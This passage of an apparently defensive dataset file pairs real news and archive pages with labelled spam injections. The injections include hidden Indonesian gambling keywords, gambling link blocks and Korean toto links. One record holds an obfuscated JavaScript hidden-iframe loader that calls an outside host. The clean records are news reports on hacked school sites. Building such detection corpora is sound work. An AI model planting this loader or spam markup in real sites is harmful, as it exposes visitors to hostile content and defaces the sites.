  shown_title="MLC卓越社群卓越陪伴澳門大學開放日大放異彩", title="MLC卓越社群卓越陪伴澳門大學開放日大放異彩", date=None, source=None, author=None,
  pre_title="MLC’s Community Excellence Accompanies UM Open Day to Shine",
  paras=["澳門大學馬萬祺羅柏心書院於2024年1月14日成功舉辦了開放日體驗日活動。讓本澳高中生和社會各界體驗大學生活,深入了解大學教育和書院全人教育理念與生活,幫助學生提早作出生涯規劃選擇,助力于社會從多視角瞭解澳門大學。",
   "開放日當天吸引了衆多來自鏡平學校、化地瑪聖母女子學校以及社會各界人士。楊柳院長在致辭中熱烈歡迎所有參與活動的師生和訪客,並感謝他們對澳門大學的熱情、興趣和支持。書院學生組織了四場精彩的表演,為參觀的學生和訪客帶來了音樂和文化的享受。書院學生領袖亦為參觀者安排了導賞遊,帶領訪客深入了解書院提供的各種設施、住宿環境、與書院學生進行深入交流,並欣賞了院生中西音樂表演團的精彩演出。在當天的抽獎環節,有一位幸運者獲得十大書院的院徽組合。院徽組合是為今年澳門大學書院制實施十周年所特製,因此十分珍貴。",
   "此次開放日成功向社會各界展示了大學和書院的形象與教育成果,使社會各界人士和中學生獲得寶貴的大學生活體驗和文化感知,為青年成長和教育提升提供了廣闊而生動的空間。"],
  inj='<p style="font-size:0px;color:#ffffff">judi slot online joker<br>judi slot online jackpot terbesar<br>judi slot online jdb<br>judi slot jackpot online<br>judi slot online 24 jam<br>judi slot online deposit 24 jam<br>situs khusus judi slot online<br>judi slot online luar negeri<br>judi slot online lengkap<br>situs judi slot online luar negeri<br>link judi slot online bonus 200 untuk akun baru</p>', pos="after_p3",
  spam=["judi slot online jackpot terbesar", "situs khusus judi slot online", "link judi slot online bonus 200 untuk akun baru"], injections=["keyword_list_block", "zero_font_white_text"],
  origin="Indonesian slot keyword lines verbatim from a spam post in a public issue tracker (github lm-sys/FastChat #893, corpus issues); hiding wrapper is a reconstruction; page text: pages corpus capture (search: '学院 新闻 开幕式 顺利举行 澳门新葡京 娱乐'); the page's English first paragraph is left out of the truth", kind="real-injection-in-real-page", capture="html")

C(url="https://chuzhong.eol.cn/cq/cqcz/201208/t20120806_822671_1.shtml", site="chuzhong.eol.cn", lang="zh", enc="gbk", shell="news",
  shown_title="赛德学校网站高考喜报涉嫌“掺水”", title=None, date="2012-08-06", source=None, author=None,
  paras=["校长:可能是网站中毒了",
   "当天上午,记者来到赛德中学,该校校长汪洪源电话里称自己在外办事,约定下午接受采访。记者下午按时来到学校,汪洪源打开学校网站指着电脑说:“我回来后在网上看了一下,怎么没有你们说的情况呢?”记者一看,上午看到的今年和去年的喜报都不见了。",
   "当记者出示网页的打印材料时,汪洪源称:“可能是学校网站中毒了,我怎么没看到这个呢,是不是有人恶意发布的信息?”",
   "“这个喜报在网上挂了1年多,你们就没发现吗?难道校方没有管理维护责任吗?”“没有,我们这个网站只供内部交流,不对外开放,校方没有责任!”汪洪源回答。而对于该校去年上重本人数到底有多少,汪洪源称不知道,一切以教委公布的为准。",
   "教委:将就此事展开调查",
   "对于赛德学校网站高考成绩涉嫌“掺水”一事,万州区教委民办教育科张科长表示,前不久,他们曾对个别学校宣传中夸大部分数据一事进行了查处,也责成包括赛德学校在内的所有学校自查自纠,没想到还有这样的事情出现,他们将对此调查。"],
  inj='<div class="links">友情链接: <a href="http://162.215.254.42/bukaqq/">bukaqq</a> <a href="http://162.215.254.42/guepoker/">guepoker</a> <a href="http://162.215.254.42/hokijudiqq/">hokijudiqq</a> <a href="http://162.215.254.42/hobiqq/">hobiqq</a> <a href="http://162.215.254.42/pelangiqq/">pelangiqq</a> <a href="http://162.215.254.42/warnaqq/">warnaqq</a> <a href="http://162.215.254.42/mainbandar/">mainbandar</a> <a href="http://162.215.254.42/adaqq/">adaqq</a> <a href="http://162.215.254.42/dotaqq/">dotaqq</a> <a href="http://162.215.254.42/rajabandarq/">rajabandarq</a></div>', pos="footer",
  spam=["hokijudiqq", "pelangiqq", "rajabandarq", "guepoker"], injections=["sold_link_block", "visible_footer_links"],
  origin="Indonesian poker link list quoted verbatim in a public issue comment (github reek/anti-adblock-killer #1564, corpus issues); the 友情链接 label is a reconstruction; page text: pages corpus capture (search: '学校官网被黑 出现赌博链接 教育局 回应'); the capture began mid-article: shown title reconstructed, truth title null", kind="real-injection-in-real-page", capture="html")

_jq = ('var _0xb185d4 = ["iframe", "setAttribute", "https://www.jqcdn.download/lot.html", "head", "appendChild", "1IABALrINkcv2VFJWo7ctqH0f3Y6aTf1", "start", "createElement"];\n'
 '!function(t, x) {\n    !function(x) {\n        for (; --x; )\n            t.push(t.shift())\n    }(++x)\n}(_0xb185d4, 367);\n'
 'var _0xe799c5 = function(t, x) {\n    var a = _0xb185d4[t -= 0];\n    return a\n};\n'
 'a = document[_0xe799c5("0x0")](_0xe799c5("0x1")),\na[_0xe799c5("0x2")]("src", _0xe799c5("0x3")),\na.style.width = "0px",\na.style.height = "1px",\ndocument[_0xe799c5("0x4")][_0xe799c5("0x5")](a);')
C(url="http://www.zsdag.cn/view?id=10085", site="zsdag.cn", lang="zh", enc="gb18030", shell="archive",
  shown_title="民众镇", title=None, date="2019-12-31", source="《中山年鉴•2020》", author="中山年鉴编纂委员会",
  byline="【作者】中山年鉴编纂委员会 【文章来源】《中山年鉴•2020》 【成文日期】2019-12-31 【点击率】1322次",
  paras=["【民众镇概况】 民众镇位于中山市东北部,毗邻广州市南沙区和中山火炬开发区。总面积121.87平方千米。辖新伦、民平、新平、沙仔、锦标、义仓、裕安、新建、接源、沿江、群安、上网、浪网、新平四、东胜、三墩16个行政村和民众、浪网、多宝3个社区。2019年末常住人口11.44万人,户籍人口8.34万人。民众镇是典型的岭南水乡,河涌纵横交错,有外江大堤37.3千米,外江水闸21座,内河99条。",
   "【民众镇经济发展】 2019年,民众镇实现地区生产总值65.14亿元,比上年下降1%。三次产业比例为8.5∶57.1∶34.5。",
   "农业 2019年,民众镇农林牧渔业总产值12亿元,比上年增长12.75%。农业生产总面积5720.2公顷。其中,粮食种植面积456公顷(含复种面积),总产量5810吨;春收马铃薯84.67公顷;蔬菜种植面积1926.2公顷(含复种),总产量4.59万吨;水产品养殖面积1950.4公顷,总产量3.22万吨;水果种植面积808.73公顷,总产量1.39万吨;花卉苗木种植面积1803公顷,总产值3.94亿元。"],
  inj='<script>\n' + _jq + '\n</script>', pos="body_end",
  spam=[], injections=["obfuscated_array_rotation_js", "hidden_iframe_loader"],
  origin="github jedfoster/SassMeister #194 (obfuscated iframe injector appended to a site's script, quoted verbatim) (issue thread, corpus issues); page text: pages corpus capture (search: '镇政府 工作动态 扎实开展 活动 来源 党政办 开元棋牌 澳门威尼斯人 注册'); the capture's first paragraph has no separate headline: shown title reconstructed, truth title null", kind="real-injection-in-real-page", capture="html")

C(url="https://news.sohu.com/20100301/n270503253.shtml", site="news.sohu.com", lang="zh", enc="gb18030", shell="news",
  shown_title="澳门特区政府发言人机制正式启动", title="澳门特区政府发言人机制正式启动", date="2010-03-01", source="新华网", author=None,
  byline="来源: 新华网 2010年03月01日23:32",
  paras=["新华网澳门3月1日电 澳门特区政府发言人谭俊荣1日举行新闻发布会,介绍行政长官崔世安未来一段时间的日程安排。这标志着澳门特区政府发言人机制正式启动。",
   "谭俊荣表示,崔世安上任后通过不同渠道广泛收集民意,不间断地接见多个社团组织,同时通过探访弱势社群、视察旧区等活动了解民情,借此更好地制定即将发表的施政报告,以科学决策、民主决策的理念,提升政府施政的能力及透明度。",
   "包括谭俊荣在内的特区政府发言人办公室主要成员上月24日与媒体见面。"],
  inj='<div class="hot-kw" style="display:none"><a href="https://titusqfoxe.getblogs.net/45714486/">토토커뮤니티 no 1 토토벅스 totobucks net 당신의 안전을 책임집니다</a></div>', pos="after_p1",
  spam=["토토커뮤니티 no 1 토토벅스"], injections=["hidden_link_block", "korean_toto_spam"],
  origin="Korean toto spam headline verbatim from the slug of a captured spam-blog page (pages corpus capture titusqfoxe.getblogs.net, search: '스포츠토토 카지노사이트 바카라 안전놀이터 추천 학교 공지사항'); link wrapper is a reconstruction; page text: pages corpus capture (search: '镇政府 工作动态 扎实开展 活动 来源 党政办 开元棋牌 澳门威尼斯人 注册')", kind="real-injection-in-real-page", capture="html")

C(url="http://sengpou.com/news_detail.php?element_index=7&news_id=8060", site="sengpou.com", lang="zh", enc="utf-8", shell="news",
  shown_title="政府總部下周六日對外開放", title="政府總部下周六日對外開放", date="2020-10-05", source=None, author=None,
  byline="當前報章2020年10月05日 今日導讀 本報新聞",
  paras=["【特訊】政府總部將於本月十七日(周六)及十八日(周日)向公眾開放,市民和遊客除可參觀政府總部的裝潢和各式擺設外,還可欣賞豐富表演節目。今年政府總部花卉展的主題為「開心傳城」,期望以顏色鮮艷的花卉及色彩繽紛的佈展裝置,讓參觀的市民和遊客欣賞澳門的美。",
   "位於南灣大馬路的政府總部,由禮賓樓、政府總部行政大樓前座、政府總部行政大樓後座、政府總部輔助部門大樓等四座建築物及花園組成。開放日期間將會對外開放禮賓樓及花園部分,市民和遊客可參觀禮賓樓的多功能廳、蓮花廳、一樓大廳、綠廳、黃廳、藍廳及花園部分。",
   "市民和遊客除可參觀政府總部建築物的裝潢和各式擺設外,也可到現場欣賞由警察銀樂隊及演藝學院學生呈獻的豐富表演節目。",
   "政府總部開放日時間為上午九時至下午六時,中午不休息,歡迎市民和遊客屆時蒞臨參觀。"],
  inj='<div style="display:none"><a href="http://maxwin.pdfmake.org/surat4d.html">surat4d</a> <a href="http://maxwin.pdfmake.org/sis4d.html">sis4d</a> <a href="http://maxwin.pdfmake.org/timnas4d.html">timnas4d</a> <a href="https://66kbet3m.top/">66kbet3m</a></div>', pos="body_end",
  spam=["surat4d", "timnas4d", "66kbet3m"], injections=["hidden_link_block", "planted_subdomain_links"],
  origin="github bpampuch/pdfmake #2675 (gambling pages planted on a hacked project subdomain; URLs quoted verbatim, anchor texts are the URLs' file names — a reconstruction) (issue thread, corpus issues); page text: pages corpus capture (search: '镇政府 工作动态 扎实开展 活动 来源 党政办 开元棋牌 澳门威尼斯人 注册')", kind="real-injection-in-real-page", capture="html")

# ---------------- legit ----------------
def L(**k):
    k.setdefault("spam", []); k.setdefault("injections", []); k["legit"] = True
    k.setdefault("kind", "rebuilt-from-text"); k.setdefault("capture", "text"); C(**k)

L(url="https://act1.co.jp/2025_11_27-2", site="act1.co.jp", lang="ja", enc="utf-8", shell="blog",
  shown_title="拓殖大学のwebページがオンラインカジノに改ざん サイバー攻撃", title="拓殖大学のwebページがオンラインカジノに改ざん サイバー攻撃", date=None, source=None, author=None,
  paras=["2025年11月20日、拓殖大学の公式ウェブサイトが2025年9月にサイバー攻撃を受け、「寄付のお願い」ページが海外のオンラインカジノサイトへ誘導する不正な内容に改ざんされていた。",
   "2025年9月27日に大学関係者がホームページを確認したところ、「大学案内」内の「寄付のお願い」リンクをクリックすると、本来の寄付受付ページではなく、オンラインカジノと思われる海外サイトに飛ばされる状態になっていたことが判明。",
   "被害は、大学が寄付ページの運用を委託している外部業者が管理するサーバーで発生しており、攻撃者はこのサーバーの管理者アカウントを不正に利用してウェブページを改ざん。",
   "不審なファイルを設置していたとみられている。",
   "改ざんされたページは寄付を呼びかける案内と手続きリンクのみを表示するシンプルなもので、サーバー内に氏名や住所、クレジットカード情報などの個人情報は一切保存されていなかったことから、個人情報の流出は確認されていないという。",
   "改ざんは2025年9月24日から27日までの約3日間続いていたとされており、この期間に「寄付のお願い」ページにアクセスした利用者は、意図せずオンラインカジノサイトへ誘導された可能性がある。",
   "大学は対応として該当サーバーを停止し、改ざんされたファイルの削除を実施。",
   "11月20日にはページの公開を再開している。"],
  origin="pages corpus capture (search: '大学 ホームページ 改ざん カジノ スパム')")

L(url="https://rocket-boys.co.jp/security-measures-lab/sapporo-city-university-research-site-hacked-online-casino-links/", site="rocket-boys.co.jp", lang="ja", enc="utf-8", shell="blog",
  shown_title="札幌市立大学の研究用サイトが不正アクセスによる改ざん被害、オンラインカジノへのリンクが埋め込まれる",
  title="札幌市立大学の研究用サイトが不正アクセスによる改ざん被害、オンラインカジノへのリンクが埋め込まれる", date=None, source=None, author=None,
  crumb="セキュリティニュース",
  paras=["札幌市立大学は大学教員管理の研究用サイトが不正アクセスによる改ざんを受け、オンラインカジノへのリンクが埋め込まれた事を発表しました。",
   "事案の概要と初動対応",
   "札幌市立大学の教員個人が教育・研究用に管理しているウェブサーバ(ドメインmedia.scu.ac.jp)内にオンラインカジノに関するリンクが複数埋め込まれていました。",
   "なお、影響を受けたウェブサーバは札幌市立大学 公式ウェブサイト(ドメインscu.ac.jp)とは別のサーバとなっているため、公式ウェブサイト内において影響はない。",
   "サーバ内に個人情報の保存はなく、漏洩の可能性は低い",
   "なぜこのような改ざんが起こるのか",
   "教育・研究機関でよくあるケースとして、学内に設置された「準公式」なサイトが狙われることが挙げられます。"],
  origin="pages corpus capture (search: '大学 ホームページ 改ざん カジノ スパム')")

L(url="http://www.masslive.com/business-news/index.ssf/2012/06/umass_website_hacked_google_searchers_ge.html", site="masslive.com", lang="en", enc="utf-8", shell="blog",
  shown_title="UMass website hacked, Google searchers get offer to sell Viagra", title="UMass website hacked, Google searchers get offer to sell Viagra",
  date="2012-06-06", source=None, author="Jim Kinney",
  byline="Jim Kinney | By Jim Kinney | The Republican on June 06, 2012 at 4:30 PM, updated June 06, 2012 at 4:31 PM",
  paras=["What did the University of Massachusetts at Amherst and the blue pill, Viagra, have in common for a little while today?",
   "AMHERST – A lot of people who did a Google search for UMass Amherst Wednesday morning found themselves with a bitter pill to swallow -- and it wasn't blue.",
   "For a time, a Google search for the state’s flagship public university returned an offer to sell the blue pill knowns as Viagra, complete with the promise of free shipping. Under that solicitation was the regular description the university wants to use, describing the 1,400-acre campus as offering a rich cultural environment in a rural setting.",
   "When reached Wednesday, UMass spokesman Edward F. Blaguszewski confirmed that the incident took place and said the university’s information technology staff was working hard to correct it. The problem seemed to have been corrected by 10:30 a.m.",
   "But at least some damage had been done. An image of the Google results page with the UMass Viagra ad was already circulating social media like Twitter and Tumblr."],
  origin="pages corpus capture (search: 'viagra cialis buy online .edu hacked page')")

L(url="https://cornellsun.com/author/tternquistcornellsun-com/", site="cornellsun.com", lang="en", enc="utf-8", shell="blog",
  shown_title="Library Website Hacking Arouses Confusion for Site Visitors", title="Library Website Hacking Arouses Confusion for Site Visitors", date=None, source=None, author=None,
  paras=["Visitors who searched for the term “Cornell University Library” on Google may have been surprised yesterday to find advertisements for anxiety pills rather than the familiar reference and collection lists.",
   "The top search result read, “Order Xanax for next-day express delivery and free consultation by a U.S. licensed medical doctor.”",
   "Further inspection revealed that the Human Ecology Historical Photographs site, hosted on the Cornell University Library’s server, displayed a listing for an online drugstore selling Cialis, an erectile dysfunction medicine. Visitors were directed to a site that allowed them to purchase the medicine as well as read testimonials about the product’s “benefits.”"],
  origin="pages corpus capture (search: 'viagra cialis buy online .edu hacked page'); an author page listing one article's excerpt")

L(url="https://m.yybnet.net/ankang/news/202102/11247868.html", site="m.yybnet.net", lang="zh", enc="utf-8", shell="news",
  shown_title="学校官网现“秘密返校补课”通知 安康高新中学:遭恶意侵入,已报警", title="学校官网现“秘密返校补课”通知 安康高新中学:遭恶意侵入,已报警",
  date="2021-02-20", source="华商报", author=None, byline="华商报 2021-02-20 02:22 大字",
  paras=["2月17日,安康市高新中学官网发布的一则关于“春节提前秘密返校补课安排”的教师版通知引起网友关注。该通知称,为赶教学进度,故不按上级规定的2月28日返校要求,学校定于2月18日提前秘密返校补课。安康市高新中学副校长李康表示,网站上的通知是有人恶意入侵,修改原文进行发布,已报警。",
   "高新中学:原有内容被恶意修改",
   "19日,该校副校长李康称,2月17日上午11时左右,学校主管微博运营的工作人员发现一微博用户发布的带有“安康高新中学”“统一话术”“提前补课”等字样的微博内容,该工作人员立即与主管领导联系并汇报,并在新浪微博私信该网友,询问其来源。",
   "当日下午3时30分左右,该网友在微博回复,并发来3张学校官网发布的“春节提前秘密返校补课安排”的教师版通知截图,主管领导立即查看学校官网后发现确实有该内容,联系负责网站的工作人员进行了删除并修改网站登录密码,随后,在安康市公安局网站上报了警。",
   "据介绍,事情发生时,知道密码的两位老师一位在休假,一位在上课。"],
  origin="pages corpus capture (search: '学校官网被黑 出现赌博链接 教育局 回应')")

L(url="http://m.feiyi.eeju.com/dt/2023/0908/14685.html", site="m.feiyi.eeju.com", lang="zh", enc="gb18030", shell="news",
  shown_title="安徽矿业职业技术学院官方公众号链接到低俗网站 学院:账号已停用半年", title=None, date="2023-09-08", source="极目新闻", author=None,
  paras=["9月6日晚,有网友发文称,安徽矿业职业技术学院官方微信公众号链接到了低俗内容网站。7日,该学院办公室工作人员告诉记者,该账号已经停用半年,6日晚间接到情况后第一时间进行了处理,目前已经申请注销该账号。",
   "网友发布的内容显示,在安徽矿业职业技术学院官方微信公众号下方菜单栏“微服务”的成绩查询选项链接到了低俗视频播放网站。有网友在下方评论区推测称,可能是域名到期被其他网站注册了。",
   "9月7日,记者查询该公众号发现,网友反映的链接低俗网站的菜单栏已经被移除。安徽矿业职业技术学院办公室工作人员接受采访时介绍,6日晚上接到情况后,学院第一时间对账号进行了处理,也将相关情况汇报给了当地网信部门。",
   "该工作人员还介绍,涉及的账号已经停用半年以上了。2022年8月16日,该账号发布最后一篇文章后就不再使用。今年2月2日,工作人员将账号设置成不能通过名称搜索后,该账号就处于停用状态。9月7日,学院将该账号申请注销,目前正在办理中。"],
  after="来源:极目新闻",
  origin="pages corpus capture (search: '学校官网被黑 出现赌博链接 教育局 回应'); headline not in the capture (shown title reconstructed, truth title null); date from the URL")

L(url="https://news.joins.com/article/4566380", site="news.joins.com", lang="ko", enc="utf-8", shell="news",
  shown_title="대구공고 홈피 접속차단, 예고된 해킹도 속수무책", title="대구공고 홈피 접속차단, 예고된 해킹도 속수무책", date=None, source=None, author=None,
  paras=["전두환 전 대통령과 유명 프로게이머 마재윤의 모교인 대구공업고등학교가 한 인터넷 커뮤니티에 의해 해킹당한 사실이 뒤늦게 알려졌다.",
   "현재 대구공업고등학교 홈페이지 상 학교명은 `DC 코갤 공업고등학교`로 바뀌었다. 메인화면에는 `학교에서 뭘 배워`라는 제목의 뮤직비디오가 올라왔고, 네티즌들을 위한 채팅창도 생겼다.",
   "대구공업고등학교 홈페이지는 24일 오전부터 정상적으로 작동하지 않았으며, 25일 오전 학교 측은 홈페이지를 잠정 차단해 둔 상태다.",
   "대구공업고등학교 관계자는 \"24일 오전에 해킹이 발생했는데 휴일이라 조치가 늦어졌다. 사이버수사대가 먼저 이를 감지해 학교에 알렸고, 지금은 홈페이지가 정상화될 수 있도록 여러 관련 업체에 협조를 구하고 있다\"고 설명했다.",
   "또 지난 5월 마재윤이 졸업한 협성중학교 홈페이지가 해킹 당했을 당시에도 이 같은 움직임이 포착되기는 했으나 미처 대처하지 못했다고 했다."],
  origin="pages corpus capture (search: '대학교 홈페이지 해킹 카지노 도박 광고')")

L(url="https://lottery.kapook.com/view238596.html", site="lottery.kapook.com", lang="th", enc="utf-8", shell="news",
  shown_title="กองสลาก แจงดราม่า เปิดเว็บขายลอตเตอรี่ออนไลน์ 100 บาท อย่าเพิ่งด่า แท้จริงเป็นแบบนี้...",
  title="กองสลาก แจงดราม่า เปิดเว็บขายลอตเตอรี่ออนไลน์ 100 บาท อย่าเพิ่งด่า แท้จริงเป็นแบบนี้...", date=None, source=None, author=None,
  paras=["กองสลาก ชี้แจงแล้ว ดราม่าขายลอตเตอรี่ออนไลน์ 100 บาท เป็นเว็บของรัฐบาลหรือไม่ หลังเปิดตัวเว็บ กองสลาก.com ที่แท้เรื่องจริงเป็นแบบนี้...",
   "ทำเอาประชาชนงงไม่น้อยเรื่องการขายสลากกินแบ่งรัฐบาลแบบออนไลน์ ภายหลังมีการเปิดตัวเว็บไซต์ www.กองสลาก.com ที่ขายลอตเตอรี่ออนไลน์ ราคาใบละ 80 บาท แต่มีค่าบริการใบละ 20 บาท ซึ่งก็ไม่ต่างกับใบละ 100 บาท มาพร้อมบริการขึ้นเงินให้โดยไม่มีค่าธรรมเนียม เรื่องนี้หลายคนพากันตั้งคำถามกับทางสำนักงานสลากกินแบ่งรัฐบาล เนื่องจากที่ผ่านมา มีการห้ามไม่ให้ผู้ค้าลอตเตอรี่ลงขายทางออนไลน์และห้ามขายเกินราคา"],
  origin="pages corpus capture (search: 'เว็บไซต์ราชการ ถูกแฮก สล็อต บาคาร่า'); the capture ends mid-sentence, the truth keeps its complete paragraphs")

L(url="https://www.antifakenewscenter.com/%E0%B8%99%E0%B9%82%E0%B8%A2%E0%B8%9A%E0%B8%B2%E0%B8%A2%E0%B8%A3%E0%B8%B1%E0%B8%90%E0%B8%9A%E0%B8%B2%E0%B8%A5-%E0%B8%82%E0%B9%88%E0%B8%B2%E0%B8%A7%E0%B8%AA%E0%B8%B2%E0%B8%A3/%E0%B8%82%E0%B9%88%E0%B8%B2%E0%B8%A7%E0%B8%9B%E0%B8%A5%E0%B8%AD%E0%B8%A1-%E0%B8%AD%E0%B8%A2%E0%B9%88%E0%B8%B2%E0%B9%81%E0%B8%8A%E0%B8%A3%E0%B9%8C-%E0%B9%80%E0%B8%A7%E0%B9%87%E0%B8%9A%E0%B8%AA%E0%B8%A5%E0%B9%87%E0%B8%AD%E0%B8%95%E0%B8%AD%E0%B8%AD%E0%B8%99%E0%B9%84%E0%B8%A5%E0%B8%99%E0%B9%8C%E0%B8%96%E0%B8%B9%E0%B8%81%E0%B8%81%E0%B8%8E%E0%B8%AB%E0%B8%A1%E0%B8%B2%E0%B8%A2%E0%B9%81%E0%B8%A5%E0%B8%B0%E0%B8%88%E0%B8%94%E0%B8%A5%E0%B8%B4%E0%B8%82%E0%B8%AA%E0%B8%B4%E0%B8%97%E0%B8%98%E0%B8%B4%E0%B9%8C%E0%B9%80%E0%B8%9B%E0%B9%87%E0%B8%99%E0%B9%80%E0%B8%88%E0%B9%89%E0%B8%B2%E0%B9%81%E0%B8%A3%E0%B8%81%E0%B9%83%E0%B8%99%E0%B9%84%E0%B8%97%E0%B8%A2/", site="antifakenewscenter.com", lang="th", enc="utf-8", shell="gov",
  shown_title="ข่าวปลอม อย่าแชร์! เว็บสล็อตออนไลน์ถูกกฎหมายและจดลิขสิทธิ์เป็นเจ้าแรกในไทย", title="ข่าวปลอม อย่าแชร์! เว็บสล็อตออนไลน์ถูกกฎหมายและจดลิขสิทธิ์เป็นเจ้าแรกในไทย", date=None, source=None, author=None,
  paras=["กรณีที่มีประเด็นข่าวเกี่ยวกับเรื่องเว็บสล็อตออนไลน์ถูกกฎหมายและจดลิขสิทธิ์เป็นเจ้าแรกในไทย ทางศูนย์ต่อต้านข่าวปลอมได้ดำเนินการตรวจสอบข้อเท็จจริงโดยกรมการปกครอง กระทรวงมหาดไทย พบว่าประเด็นดังกล่าวนั้น เป็นข้อมูลเท็จ"],
  origin="pages corpus capture (search: 'เว็บไซต์ราชการ ถูกแฮก สล็อต บาคาร่า'); the capture's second paragraph ends mid-sentence and is left out")

L(url="https://morganhillmodels.com/news/2021/03/30/us-sports-betting-legislation-updates-wyoming-louisiana-new-york-virginia", site="morganhillmodels.com", lang="en", enc="utf-8", shell="blog",
  shown_title="US sports betting legislation updates: Wyoming, Louisiana, New York, Virginia", title=None, date="2021-03-30", source=None, author=None,
  paras=["Varying degrees of success",
   "Sports wagering legislation has seen significant updates with varying degrees of success across four US states over the past week.",
   "A Wyoming sports betting bill has progressed through the Senate, moving the state within touching distance of a legal market. After the vote of 24-5-1 on Monday, HB 133 just requires final approvals by the House and governor.",
   "Louisiana is all set to begin sports betting discussions courtesy of Senate President Patrick Page Cortez. He said he will propose a bill for mobile sports betting in the state once the next legislative session is underway.",
   "In New York, the news is a little bleaker for sports betting fans. Although all signs pointed to a legal market in the state before year’s end, negotiations have broken down between Governor Andrew Cuomo and other lawmakers.",
   "Finally, Governor Ralph Northam of Virginia has approved two bills to expand the state’s sports betting market. The legislation permits 12 more mobile sportsbook operators to apply for licenses.",
   "Wyoming faces its final hurdles",
   "The Wyoming Gaming Commission has set September 1 as the target launch date for the state’s sports betting market, after the Senate green-lighted HB 133 on March 29."],
  origin="pages corpus capture (search: 'sports betting regulation bill legislature approves online sportsbook licensing'); a syndicated copy on an unrelated host (legit text, no injection seen); headline reconstructed from the URL, truth title null")

L(url="https://www.cpzj.com/news/141574.html", site="cpzj.com", lang="zh", enc="gbk", shell="news",
  shown_title="江苏泗洪县:彩票公益助振兴 重大项目促发展", title="江苏泗洪县:彩票公益助振兴 重大项目促发展", date="2022-08-23", source="新华网", author=None,
  crumb="当前位置:彩之家 > 媒体互动 > 正文", byline="2022-08-23 15:40:00 来源:新华网 责编:彩夫子 点击:",
  paras=["近年来,泗洪县大力推进西南岗片区产业发展助力乡村振兴,积极对上争取项目支持,成功申报2022年中央专项彩票公益金支持欠发达革命老区乡村振兴项目资金5000万元,是全市唯一获得该项补助县。",
   "借助该项项目资金,该县有效利用“三生”公共空间融合治理成果,编报农业农村重大项目,实施双沟镇果蔬示范基地、碧根果产业园项目、雪枫堤纪念亭及配套项目、双沟惨案纪念馆改造提升工程、双沟镇红薯产业链项目、魏营镇西瓜产业提质增效项目、刘营居美丽乡村建设项目、陈冲居美丽乡村建设等8个项目。",
   "泗洪县魏营镇地处西南方腹地,拥有绿色果蔬、优质稻麦、生态林果三大优势产业,该镇紧抓此次中央专项彩票公益金支持欠发达革命老区乡村振兴项目契机,利用专项资金1880万元,撬动社会资金实施农业重大项目建设,围绕特色产业提质增效及美丽乡村建设,大力完善农业生产基础设施和居住区人居环境水平。"],
  origin="pages corpus capture (search: '县人民政府 乡村振兴 调研 日期 来源 彩票 平台 注册送')")

L(url="https://news.china.com/socialgd/10000169/20180523/32441277_1.html", site="news.china.com", lang="zh", enc="utf-8", shell="news",
  shown_title="网络热文疑造假营销软文 故意留暗号引向博彩网站", title="网络热文疑造假营销软文 故意留暗号引向博彩网站", date="2018-05-23", source="北青网", author=None,
  crumb="当前位置:新闻 > 社会新闻 > 社会新闻更多页面 > 正文", byline="2018-05-23 11:18:58  北青网    参与评论()人",
  paras=["北青报记者注册、登录该网站发现,网站上设置有多种选号、押大小、押单双以及卡牌等博彩。客服人员称,用户注册后,可以进行线上投注、支付。此外,网站页面右侧还设有聊天室,注册会员在聊天室中交流“赌博心得”。",
   "多家平台已开始清理该文章",
   "相关部门受理对赌博网举报",
   "北青报记者注意到,涉事的博彩网站页面底部并未显示在工信部的备案号。5月22日下午,北青报记者致电工信部,工作人员表示,国内的网站都需要在工信部备案,没有备案则属于违规网站。检索该网站域名后,工作人员回复称,“这家网站没有在工信部备案,是一家在境外注册的网站。”随后,工作人员建议说,如果该网站涉及到博彩等违法内容,可向中国互联网违法和不良信息举报中心(电话010-12377)进行举报。",
   "北青报记者拨打上述电话举报该博彩网站,工作人员记录下涉事网站域名和网站名称后表示,根据相关法律法规,网上出售彩票、赌博同样属于违法违规行为,相关网站、人员一经查实,将依法依规严处。",
   "对于这篇广为流传的文章,一些发布此文的自媒体平台已开始清理。5月22日,刊发该文的一家自媒体内容平台工作人员告诉北青报记者,该平台已在第一时间将此文下线,发布文章的相关账号已被平台封禁。(记者 张雅 实习生 张月朦)"],
  after="(责任编辑:周晶晶 CN032)",
  origin="pages corpus capture (search: '当前位置 首页 新闻 赌博网站 app 是真的吗 来源 新华网 发布时间'); page 1 of a multi-page article as captured")

L(url="https://www.zjlottery.com/duty/zrdt/202012/73694.html", site="zjlottery.com", lang="zh", enc="gb18030", shell="gov",
  shown_title="长三角三省一市签署体彩一体化发展合作备忘录", title="长三角三省一市签署体彩一体化发展合作备忘录", date="2020-12-18", source="浙江体彩网", author=None,
  crumb="首页 > 责任彩票 > 正文", byline="2020-12-18 20:47:05   来源:浙江体彩网",
  paras=["12月17日,2020年长三角一体化发展体彩工作研讨会在浙江金华举行。上海、江苏、浙江、安徽的体彩负责人在会上签署长三角体育彩票一体化协同发展合作备忘录,围绕主题,提出将在多层面联合开展体彩领域深层次合作。国家体育总局体育彩票管理中心副主任董红芳、战略发展处处长唐克,浙江省财政厅二级调研员孙继霞,浙江省体育局体育经济处副处长楼文嵘等出席会议。浙江省体育彩票管理中心主任沈斌主持,金华市体总专职副主席王国旗致欢迎辞。",
   "长三角地区是我国经济发展最活跃、开放程度最高、创新能力最强的区域之一,在国家现代化建设大局和全方位开放格局中具有举足轻重的战略地位。长三角一体化是习近平总书记亲自谋划、亲自部署、亲自推动的国家战略,是引领新时代经济高质量发展的重要部署。这是长三角一体化上升为国家战略后,首次召开长三角一体化发展体彩工作研讨会。",
   "董红芳指出,此次会议意义重大,是体彩人落实习近平总书记重要指示精神,推进体彩融入国家战略的重要体现。目前,体育彩票正面临着转型发展期,长三角体彩一体化的探索,以区域协同发展破题,为构建体彩新发展格局提供了思路和经验。",
   "董红芳希望三省一市体彩人以备忘录为蓝本,优势互补、资源共享,在多领域创新开展区域协调发展工作,通过更紧密的协调、更深层次的合作,进一步释放一体化红利,助力体育彩票高质量发展。"],
  origin="pages corpus capture (search: '区委 区政府 召开 会议 强调 发布时间 来源 区融媒体中心 足彩 投注')")

L(url="https://radyotodo.ph/aklan-news/banga-ex-mayor-antong-maming-hiniling-sa-sangguniang-bayan-ng-kalibo-na-payagan-ang-operasyon-ng-online-sabong", site="radyotodo.ph", lang="tl", enc="utf-8", shell="blog",
  shown_title="BANGA EX-MAYOR ANTONG MAMING, HINILING SA SANGGUNIANG BAYAN NG KALIBO NA PAYAGAN ANG OPERASYON NG ONLINE SABONG",
  title="BANGA EX-MAYOR ANTONG MAMING, HINILING SA SANGGUNIANG BAYAN NG KALIBO NA PAYAGAN ANG OPERASYON NG ONLINE SABONG", date=None, source=None, author=None,
  crumb="Aklan News",
